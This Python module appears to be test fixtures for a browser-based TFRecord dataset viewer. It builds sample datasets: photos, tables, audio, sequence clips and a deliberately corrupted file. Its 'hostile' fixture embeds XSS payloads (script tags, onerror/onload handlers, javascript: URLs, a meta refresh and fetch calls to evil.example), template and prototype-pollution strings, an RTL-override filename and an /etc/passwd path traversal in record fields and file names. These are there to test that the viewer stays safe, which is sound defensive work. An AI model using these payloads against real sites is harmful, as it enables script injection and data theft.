"""Data sets to be looked at in the browser: drawn, and packed as a user would."""

from __future__ import annotations

import io
import wave
from pathlib import Path

import numpy as np

import tfreel
from tfreel.demo.fruit import draw_fruit

from drawn import jpeg, palette_mask, put
from streets import coco_folder, street_file, streets, voc_folder

FLAG = "hostileCodeHasRun"
_RUN = f"window.{FLAG}=1;alert(1);fetch('http://evil.example/')"
# What runs a script, loads something or leaves its place, where text is taken for markup or for an address.
HOSTILE = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload={_RUN}>",
    f"javascript:{_RUN}",
    "<iframe src=http://evil.example/></iframe>",
    "</title><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import 'http://evil.example/a.css'; body{display:none}</style>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u2066 \u0000 \ufeff",
    "../../../../etc/passwd",
    "A" * 3000,
    "",
)
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'


def fruit(root: Path) -> Path:
    """A folder of photos, packed into three splits of several shards."""
    draw_fruit(str(root / "photos"), 60, seed=5)
    split = {"train": 0.7, "val": 0.15, "test": 0.15}
    tfreel.pack(root / "photos", root / "fruit", split=split, stratify="label", shards=2)
    return root / "fruit"


def colors(root: Path) -> Path:
    """More classes than a line of the overview names."""
    put(root / "photos", {f"color{i:02}/photo.jpg": jpeg(color=(20 * i, 90, 90)) for i in range(11)})
    tfreel.pack(root / "photos", root / "colors", split={"all": 1.0})
    return root / "colors"


def boxes_and_masks(root: Path) -> Path:
    """Streets with boxes, and masks that have a palette."""
    return street_file(root / "streets.tfrecord", list(streets(8)))


def voc(root: Path) -> Path:
    """Streets with masks, packed from the layout of VOC."""
    source = voc_folder(root / "source", list(streets(8)))
    tfreel.pack(source, root / "voc", masks="keep", shuffle=False)
    return root / "voc"


def coco(root: Path) -> Path:
    """Streets with boxes and a mask for each object, packed from the layout of COCO."""
    source = coco_folder(root / "source", list(streets(8)))
    tfreel.pack(source, root / "coco", instance_masks=True, shuffle=False)
    return root / "coco"


def table(root: Path, rows: int = 100_000) -> Path:
    """A table of so many rows, packed."""
    names = ("apple", "pear", "plum", "fig")
    lines = (f"{i},{names[i % 4]} {i},{i % 10},{(i * 7919) % 1000 / 10}\n" for i in range(rows))
    (root / "table.csv").write_text("number,name,label,height\n" + "".join(lines))
    tfreel.pack(root / "table.csv", root / "table", shuffle=False)
    return root / "table"


def tone(seconds: float = 0.5, rate: int = 8000) -> bytes:
    """A sound that is heard."""
    waves = np.sin(np.arange(int(seconds * rate)) * 2 * np.pi * 440 / rate) * 8000
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(rate)
        file.writeframes(waves.astype("<i2").tobytes())
    return out.getvalue()


def media(root: Path) -> Path:
    """Records with everything that is neither a picture nor a label."""
    rows = [
        {
            "blob": bytes(range(i, i + 100)),
            "depth": tfreel.tensor(np.hypot(*np.mgrid[-20:20, -30:30]).astype(np.float32) + i),
            "embedding": np.sin(np.arange(256, dtype=np.float32) / (10 + i)),
            "large": 2**60 + i,
            "sound": tone(),
            "text": f"Words of record {i}, which say little. " * 20,
            "volume": tfreel.tensor(np.arange(4 * 16 * 24, dtype=np.uint8).reshape(4, 16, 24)),
        }
        for i in range(20)
    ]
    tfreel.save(root / "media.tfrecord", rows)
    return root / "media.tfrecord"


def clips(root: Path) -> Path:
    """SequenceExamples: a clip each, with a frame, a number and words for each step."""
    with tfreel.Writer(root / "clips.tfrecord") as out:
        for i in range(12):
            steps = range(5 + i)
            lists = {
                "frames": [[jpeg(24, 16, (20 * i, 12 * step, 90))] for step in steps],
                "speed": [[float(np.sin(step) + i)] for step in steps],
                "words": [[f"word{step}"] * (step % 3) for step in steps],
            }
            out.write(tfreel.encode_sequence({"clip": f"clip {i}", "label": i % 3}, lists))
    return root / "clips.tfrecord"


def damaged(root: Path) -> Path:
    """A file with a flipped byte in the data of a record, one in the length of another, and no end."""
    path = root / "damaged.tfrecord"
    tfreel.save(path, [{"label": i, "name": f"thing {i}"} for i in range(100)])
    offsets = _offsets(path)
    data = bytearray(path.read_bytes())
    data[offsets[20] + 20] ^= 0xFF
    data[offsets[60]] ^= 0xFF
    path.write_bytes(bytes(data[: offsets[99] + 9]))
    return path


def _offsets(path: Path) -> list[int]:
    """Where each record begins."""
    offsets = [0]
    for record in tfreel.read(path):
        offsets.append(offsets[-1] + len(record) + 16)
    return offsets


def hostile(root: Path) -> Path:
    """A folder of records that would do harm, if anything in them were taken for more than data."""
    folder = root / "<img src=x onerror=alert(1)>"
    folder.mkdir()
    mask = palette_mask([[0, 1], [2, 3]], [(i, i, i) for i in range(256)])
    rows = [
        {
            "image/encoded": [
                jpeg(),
                _SVG.encode(),
                b"<!doctype html><script>" + _RUN.encode() + b"</script>",
            ][i % 3],
            "image/segmentation/class/encoded": mask,
            "image/object/bbox/xmin": [0.1, float("nan")],
            "image/object/bbox/ymin": [0.1, float("-inf")],
            "image/object/bbox/xmax": [0.6, 1e30],
            "image/object/bbox/ymax": [0.6, float("inf")],
            "image/object/class/text": [HOSTILE[i], HOSTILE[0]],
            "image/filename": HOSTILE[i],
            "label": i,
            **{name: [HOSTILE[i]] for name in HOSTILE},
        }
        for i in range(len(HOSTILE))
        for _ in range(2)  # what is there only once has no bar
    ]
    tfreel.save(folder / "<script>alert(1)<|script>.tfrecord", rows)
    return folder / "*.tfrecord"
